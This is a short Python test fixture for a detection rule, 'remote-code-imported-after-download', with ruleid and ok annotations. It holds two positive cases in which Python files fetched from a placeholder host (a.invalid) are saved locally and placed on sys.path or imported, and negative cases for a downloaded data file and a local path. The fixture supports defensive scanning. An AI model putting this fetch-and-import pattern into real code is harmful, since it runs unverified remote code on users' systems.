import importlib
import sys
import urllib.request
from pathlib import Path

import requests


def fetches():
    urllib.request.urlretrieve("https://a.invalid/m.py", "/tmp/more/m.py")
    # ruleid: remote-code-imported-after-download
    sys.path.insert(0, "/tmp/more")
    importlib.import_module("m")


def writes(folder):
    Path("/var/more/n.py").write_bytes(requests.get("https://a.invalid/n.py").content)
    # ruleid: remote-code-imported-after-download
    sys.path.append("/var/more")


def elsewhere():
    urllib.request.urlretrieve("https://a.invalid/data.json", "/tmp/data/d.json")
    # ok: remote-code-imported-after-download
    sys.path.insert(0, "/tmp/data")


def own():
    # ok: remote-code-imported-after-download
    sys.path.insert(0, str(Path(__file__).parent))
